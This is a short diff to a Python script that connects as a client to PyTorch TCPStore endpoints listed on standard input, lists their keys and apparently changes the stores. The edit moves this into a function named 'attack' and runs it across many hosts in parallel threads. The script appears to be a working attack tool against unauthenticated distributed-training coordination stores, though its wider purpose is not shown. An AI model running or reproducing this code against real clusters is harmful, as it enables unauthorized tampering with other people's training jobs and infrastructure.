@@ -10,6 +10,7 @@ import contextlib
 import datetime
 import socket
 import sys
+import threading
 
 
 def noise() -> None:
@@ -24,8 +25,7 @@ def noise() -> None:
 def store() -> None:
     from torch.distributed import TCPStore
 
-    for line in sys.stdin:
-        host, port = line.split()
+    def attack(host: str, port: str) -> None:
         try:
             reached = TCPStore(host, int(port), is_master=False, timeout=datetime.timedelta(seconds=1))
             for key in reached.list_keys():
@@ -34,6 +34,9 @@ def store() -> None:
             print(f"changed the store at {port}", flush=True)
         except RuntimeError:
             print(f"sent away from {port}", flush=True)
+
+    for line in sys.stdin:  # a try lasts a second, and a store may be there for few
+        threading.Thread(target=attack, args=line.split(), daemon=True).start()
 
 
 if __name__ == "__main__":
